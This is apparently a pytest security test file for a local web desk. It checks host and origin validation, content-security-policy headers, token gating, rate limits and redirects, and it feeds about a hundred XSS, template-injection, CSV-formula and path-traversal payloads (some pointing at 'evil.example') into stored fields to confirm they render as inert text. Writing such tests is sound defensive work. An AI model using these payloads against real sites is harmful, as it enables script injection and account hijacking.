"""Hostile text is the normal case, and so is a hostile page in the next tab."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

import pytest
from starlette.testclient import TestClient

from onrecord.record import Repair, Report
from onrecord.serve.options import Limits, Options
from onrecord.serve.rendering import identifier_link, web_link
from onrecord.serve.security import POLICY, Rate, allowed_hosts
from onrecord.store import Store
from tests.conftest import make_report
from tests.serve.coder import make
from tests.serve.conftest import BASE, FAST, PORT, client_of
from tests.serve.page import Parsed

RIGHT_HOSTS = [f"127.0.0.1:{PORT}", f"localhost:{PORT}", f"LOCALHOST:{PORT}", f"[::1]:{PORT}"]
WRONG_HOSTS = [
    "", "127.0.0.1", "localhost", "localhost:80", f"localhost:{PORT}0", f"localhost:0{PORT}", f"localhost.:{PORT}",
    f"localhost.evil.example:{PORT}", f"evil.example:{PORT}", "evil.example", f"127.0.0.1.evil.example:{PORT}",
    f"127.0.0.2:{PORT}", f"127.1:{PORT}", f"0.0.0.0:{PORT}", f"2130706433:{PORT}", f"0x7f.0.0.1:{PORT}",
    f"[::]:{PORT}", f"[::ffff:127.0.0.1]:{PORT}", f"::1:{PORT}", f"user@localhost:{PORT}",
    f"localhost:{PORT}@evil.example", f"localhost:{PORT}, evil.example", f"evil.example, localhost:{PORT}",
    f"localhost:{PORT}/", f"localhost:{PORT}#", f"http://localhost:{PORT}", f"localhost :{PORT}",
    f"localhost:{PORT}\t", f"loc\u00e4lhost:{PORT}", "null", "*",
]  # fmt: skip

WRONG_ORIGINS = [
    "null", "http://evil.example", f"http://evil.example:{PORT}", f"https://127.0.0.1:{PORT}", "http://127.0.0.1",
    f"http://localhost:{PORT}", f"http://127.0.0.1:{PORT}/", f"http://127.0.0.1:{PORT}.evil.example", "file://", "",
]  # fmt: skip


@pytest.mark.parametrize("host", RIGHT_HOSTS)
def test_its_own_names_are_answered(client: TestClient, host: str) -> None:
    assert client.get("/search.json", headers={"host": host}).status_code == 200


@pytest.mark.parametrize("host", WRONG_HOSTS)
def test_any_other_name_is_refused(client: TestClient, host: str) -> None:
    answer = client.get("/search.json", headers={"host": host.encode("utf-8")})
    assert answer.status_code == 421
    assert "rows" not in answer.text


def test_two_names_are_refused(client: TestClient) -> None:
    answer = client.get("/", headers=[("host", f"localhost:{PORT}"), ("host", f"localhost:{PORT}")])
    assert answer.status_code == 421


def test_the_bare_name_is_right_only_at_the_port_of_the_web() -> None:
    assert "localhost" in allowed_hosts(80)
    assert "localhost" not in allowed_hosts(8080)


@pytest.mark.parametrize("origin", WRONG_ORIGINS)
@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_a_change_from_elsewhere_is_refused(client: TestClient, method: str, origin: str) -> None:
    assert client.request(method, "/search", headers={"origin": origin}).status_code == 403


@pytest.mark.parametrize("site", ["cross-site", "same-site", "none", "SAME-ORIGIN"])
def test_a_change_that_the_browser_says_is_from_elsewhere_is_refused(client: TestClient, site: str) -> None:
    headers = {"origin": BASE, "sec-fetch-site": site}
    assert client.post("/search", headers=headers).status_code == 403


def test_nothing_can_be_changed_even_from_its_own_pages(client: TestClient) -> None:
    answer = client.post("/search", headers={"origin": BASE, "sec-fetch-site": "same-origin"})
    assert answer.status_code == 405


@pytest.mark.parametrize("address", ["/", "/article?id=r1", "/search.json", "/search.csv", "/static/desk.js",
                                     "/nothing", "/search.json?since=x", "/openapi.json", "/favicon.ico"])  # fmt: skip
def test_every_answer_carries_the_policy(client: TestClient, address: str) -> None:
    headers = client.get(address, follow_redirects=False).headers
    assert headers["content-security-policy"] == POLICY
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert headers["referrer-policy"] == "no-referrer"
    assert "access-control-allow-origin" not in headers


def test_an_answer_to_our_own_mistake_carries_it_too(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("a secret of ours")

    monkeypatch.setattr("onrecord.serve.pages.active_actors", broken)
    answer = client_of(path).get("/overview.json")
    assert answer.status_code == 500
    assert "secret" not in answer.text
    assert answer.headers["content-security-policy"] == POLICY


def test_the_policy_lets_no_text_become_script() -> None:
    rules = dict(rule.split(" ", 1) for rule in POLICY.split("; "))
    assert rules["default-src"] == "'none'"
    assert rules["script-src"] == rules["style-src"] == "'self'"
    assert rules["frame-ancestors"] == rules["base-uri"] == "'none'"
    assert rules["require-trusted-types-for"] == "'script'"
    assert rules["trusted-types"] == "'none'"
    assert "unsafe" not in POLICY
    assert "*" not in POLICY


PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='x",
    "` onload=`x", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>x</script>",
    "<!--<script>", "<![CDATA[<script>x</script>]]>", "<iframe src=javascript:alert(1)>", "<a href=javascript:x>y</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>x</script>", "vbscript:x",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&quot; onclick=x", "{{ 7*7 }}", "{% include 'x' %}",
    "${7*7}", "<%= 7 %>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=x>", "<math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "<template><script>x</script></template>", "</div></article></main>", "<plaintext>",
    "<noscript><p title='</noscript>",
    "\u2028<script>\u2029", "\ufeff<script>", "+ADw-script+AD4-", "<scr\u0000ipt>".replace("\0", "\u0001"),
    "\u202e<b>\u202c", "=HYPERLINK(\"//evil.example\")", "../../etc/passwd", "%3Cscript%3E", "<br/\n>\r\n<hr>",
]  # fmt: skip
# More of the same kind, by what they try: tags that run, handlers, addresses, broken quoting, other parsers.
PAYLOADS += [
    f"<{tag} {handler}=alert(1){rest}>"
    for tag, handler, rest in [
        ("video", "onerror", "><source src=x"),
        ("audio src=x", "onerror", ""),
        ("body", "onload", ""),
        ("details open", "ontoggle", ""),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("marquee", "onstart", ""),
        ("object data=x", "onerror", ""),
        ("embed src=x", "onload", ""),
        ("svg><animate", "onbegin", " attributeName=x"),
        ("svg><set", "onbegin", " attributeName=x"),
        ("isindex type=image src=x", "onerror", ""),
        ("div tabindex=0", "onpointerenter", ""),
        ("style", "onload", ""),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("frameset", "onload", ""),
        ("textarea autofocus", "onfocus", ""),
        ("keygen autofocus", "onfocus", ""),
        ("dialog open", "oncancel", ""),
        ("x contenteditable", "oninput", ""),
        ("p style=animation:x", "onanimationend", ""),
    ]
]
PAYLOADS += [
    "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\t>alert(1)</script >",
    "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>/*", "*/alert(1)</script>",
    "<script type=module>import('//evil.example')</script>", "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>", "<svg><use href=data:image/svg+xml,x#x></use></svg>",
    "<svg><foreignObject><iframe srcdoc=x></foreignObject>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form><button formaction=javascript:x>y",
    "<input type=image src=x formaction=javascript:x>", "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "\\\"><script>alert(1)</script>", "\\'; alert(1); //", "';alert(1)//", "\"-alert(1)-\"",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</svg><script>alert(1)</script>",
    "</option></select><script>x</script>", "</a><a href=//evil.example>", "]]><script>x</script>",
    "--!><script>x</script>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>x</x:script>", "<%00script>x</script>",
    "{{constructor.constructor('alert(1)')()}}", "#{7*7}", "{{=alert(1)}}", "@import '//evil.example'",
    "expression(alert(1))", "url(javascript:alert(1))", "//evil.example", "\\\\evil.example\\x", "https:evil.example",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]  # fmt: skip
HARMLESS = "harmless"
ALLOWED = {
    "abbr", "html", "head", "meta", "title", "link", "script", "body", "a", "header", "svg", "path", "nav", "form",
    "input", "main", "h1", "h2", "h3", "p", "span", "b", "small", "code", "kbd", "div", "section", "article", "aside",
    "label", "button", "ul", "ol", "li", "dl", "dt", "dd", "blockquote", "details", "summary", "table", "thead",
    "tbody", "tr", "th", "td", "select", "option", "datalist", "rect", "circle", "line", "text", "footer", "del", "ins",
    "br", "figure", "figcaption", "defs", "pattern", "mark", "pre",
}  # fmt: skip


def laced(payload: str, id: str = "x") -> Report:
    """A report with the payload everywhere that text from outside goes."""
    report = make_report(id)
    s = report.source
    s.headline = s.outlet = s.byline = s.agency = s.uri = payload
    end = len(report.text)
    report.text += " " + payload
    report.notes = [payload]
    report.sentences.append((end, len(report.text)))
    report.statements[0].content.append((end + 1, len(report.text)))
    report.statements[0].verb = payload
    report.events[0].trigger.append((end + 1, len(report.text)))
    report.events[0].contexts = [payload]
    report.events[0].evidence = {payload: payload}
    report.repairs.append(Repair(payload, end + 1, len(report.text), 0, 1, payload, payload))
    for actor in report.actors:
        actor.name = f"{actor.id} {payload}"
        actor.role = actor.code = actor.country = payload
        actor.links = {payload: payload, "wikidata": payload}
        actor.evidence = [payload]
    for place in report.places:
        place.name = place.country = place.part = payload
    return report


@pytest.fixture(scope="module")
def laced_client(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    path = tmp_path_factory.mktemp("laced") / "<img src=x onerror=alert(1)>.db"
    with Store(path) as store:
        for n, payload in enumerate([HARMLESS, *PAYLOADS]):
            store.put(laced(payload, f"x{n}"))
        store.put(laced(HARMLESS, "<script>alert(1)</script>"))
    return client_of(path)


def check(page: str) -> Parsed:
    """Only our elements, no script but ours, no handlers, no styles, no address but ours and the known ones."""
    parsed = Parsed(page)
    assert {tag for tag, _ in parsed.elements} <= ALLOWED
    for tag, attributes in parsed.elements:
        assert not any(name.startswith("on") or name in ("style", "srcdoc", "http-equiv") for name in attributes)
        if tag == "script":
            assert set(attributes) == {"type", "src"}
            assert (attributes["src"] or "").startswith("/static/built/")
    for value in parsed.values("href", "src", "action"):
        assert value.startswith(("/", "#", "https://www.wikidata.org/wiki/Q", "https://www.geonames.org/"))
        assert not value.startswith("//")
    return parsed


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("n", range(len(PAYLOADS)))
def test_a_payload_is_only_text(laced_client: TestClient, n: int) -> None:
    payload = PAYLOADS[n]
    benign = check(laced_client.get("/article?id=x0").text)
    found = check(laced_client.get(f"/article?id=x{n + 1}").text)
    assert found.structure == benign.structure
    assert found.text == laced(payload).text
    actor = quote(f"a1 {payload}")
    assert check(laced_client.get(f"/actor?name={actor}").text).structure
    check(laced_client.get(f"/dyad?actor={actor}&other={quote('a2 ' + payload)}").text)
    # What is typed into the address comes back in the page.
    names = ("words", "actor", "place", "outlet", "type", "status", "country", "other")
    check(laced_client.get("/search?" + "&".join(f"{name}={quote(payload)}" for name in names)).text)
    check(laced_client.get(f"/{quote(payload)}", headers={"accept": "text/html"}).text)


def test_pages_over_all_of_them_hold(laced_client: TestClient) -> None:
    for address in ("/", "/search?kind=events&limit=200", "/search?kind=statements&limit=200",
                    "/search?kind=articles&limit=200", "/map", "/map?layer=places",
                    "/article?id=" + quote("<script>alert(1)</script>")):  # fmt: skip
        answer = laced_client.get(address)
        assert answer.status_code == 200
        check(answer.text)


LINKS = [
    ("https://news.example/a?b=c", True), ("http://news.example", True), ("javascript:alert(1)", False),
    ("JAVASCRIPT://news.example/%0aalert(1)", False), ("//evil.example", False), ("https:evil", False),
    ("data:text/html,x", False), ("file:///etc/passwd", False), ("inbox/kabul.txt", False), ("http://[", False),
    ("\x01javascript:x", False), ("", False), (None, False),
]  # fmt: skip


@pytest.mark.parametrize(("uri", "good"), LINKS)
def test_only_web_addresses_become_links(uri: str | None, good: bool) -> None:
    assert (web_link(uri) is not None) == good


def test_identifiers_become_links_only_in_their_own_form() -> None:
    assert identifier_link("wikidata", "Q12") == "https://www.wikidata.org/wiki/Q12"
    assert identifier_link("wikidata", "Q12/../../x") is None
    assert identifier_link("wikidata", "Q12\n") is None
    assert identifier_link("geonames", "1138958") == "https://www.geonames.org/1138958"
    assert identifier_link("other", "Q12") is None


def test_who_asks_too_often_is_told_when_to_come_back(path: Path) -> None:
    client = client_of(path, Options(limits=Limits(reads=2.0)))
    answers = [client.get("/explain.json?article=r1&id=e1") for _ in range(12)]
    assert [a.status_code for a in answers[:8]] == [200] * 8
    assert answers[-1].status_code == 429
    assert int(answers[-1].headers["retry-after"]) == 1


def test_rates_are_kept_for_each_client_and_fill_again() -> None:
    rate = Rate(1.0)
    assert [rate.wait("a", 0.0) > 0 for _ in range(5)] == [False] * 4 + [True]
    assert rate.wait("b", 0.0) == 0
    assert rate.wait("a", 1.0) == 0
    assert rate.wait("a", 1.0) > 0


TOKEN = "a-token-of-sixteen-or-more"
ALLOWED_HOST = "desk.example.org:8642"


@pytest.fixture
def guarded(path: Path) -> TestClient:
    return client_of(path, Options(hosts=(ALLOWED_HOST,), token=TOKEN, limits=FAST))


@pytest.mark.parametrize("headers", [
    {}, {"authorization": "Bearer wrong"}, {"authorization": TOKEN}, {"authorization": f"Basic {TOKEN}"},
    {"cookie": f"token={TOKEN}"}, {"cookie": "onrecord-token="}, {"authorization": "Bearer "},
])  # fmt: skip
@pytest.mark.parametrize("address", ["/", "/search.json", "/static/mark.svg", "/openapi.json", "/search.json?token=no"])
def test_without_the_token_nothing_is_told(guarded: TestClient, headers: dict[str, str], address: str) -> None:
    answer = guarded.get(address, headers=headers)
    assert answer.status_code == 401
    assert answer.headers["www-authenticate"] == "Bearer"


def test_the_token_opens_the_desk_in_a_program_and_in_a_browser(guarded: TestClient) -> None:
    bearer = {"authorization": f"Bearer {TOKEN}"}
    assert guarded.get("/search.json", headers=bearer).status_code == 200
    assert guarded.get("/search.json", headers={**bearer, "host": ALLOWED_HOST}).status_code == 200
    assert guarded.get("/search.json", headers={**bearer, "host": "evil.example:8642"}).status_code == 421
    entered = guarded.get(f"/search?kind=articles&token={TOKEN}", follow_redirects=False)
    assert (entered.status_code, entered.headers["location"]) == (303, "/search?kind=articles")
    assert {"HttpOnly", "SameSite=strict"} <= set(entered.headers["set-cookie"].split("; "))
    assert guarded.get("/search.json").status_code == 200  # by the cookie


def test_the_way_in_leads_nowhere_else(guarded: TestClient) -> None:
    for path in ("//evil.example", "/%5C%5Cevil.example", "///evil.example/"):
        entered = guarded.get(f"{BASE}{path}?token={TOKEN}", follow_redirects=False)
        assert not entered.headers["location"].startswith(("//", "/\\", "http"))


@pytest.mark.parametrize(("host", "origin", "status"), [
    (ALLOWED_HOST, f"https://{ALLOWED_HOST}", 415), (ALLOWED_HOST, f"http://{ALLOWED_HOST}", 415),
    (ALLOWED_HOST, "https://evil.example", 403), (f"127.0.0.1:{PORT}", f"https://127.0.0.1:{PORT}", 403),
])  # fmt: skip
def test_changes_come_from_the_host_that_was_asked(guarded: TestClient, host: str, origin: str, status: int) -> None:
    headers = {"authorization": f"Bearer {TOKEN}", "host": host, "origin": origin}
    assert guarded.post("/api/judgements", headers=headers).status_code == status


def test_notes_and_names_of_files_are_only_text(path: Path, tmp_path: Path) -> None:
    own = tmp_path / "desk.db"
    with Store(own) as store:
        store.put(make_report())
    client = client_of(own, Options(limits=Limits(reads=1e6, changes=1e6, jobs=1000), make=make))
    client.headers.update({"origin": BASE})

    def pages(payload: str) -> list[Parsed]:
        said = {"article": "r1", "record": "e1", "verdict": "confirm", "note": payload, "judge": payload[:100]}
        judged = client.post("/api/judgements", json=said)
        assert judged.status_code == 201, payload
        name = payload.replace("/", "_").replace("\\", "_").lstrip(". ") + ".txt"
        assert client.post("/api/jobs/file", params={"name": name}, content=b"").status_code == 202, payload
        found = [Parsed(client.get(address).text) for address in ("/judgements", "/article?id=r1", "/jobs")]
        client.delete(f"/api/judgements/{judged.json()['id']}")
        return found

    benign = {tag for page in pages(HARMLESS) for tag, _ in page.elements}
    for payload in PAYLOADS:
        for page in pages(payload):
            assert {tag for tag, _ in page.elements} <= benign, payload
            for _, attributes in page.elements:
                assert not any(name.startswith("on") or name in ("style", "srcdoc") for name in attributes), payload
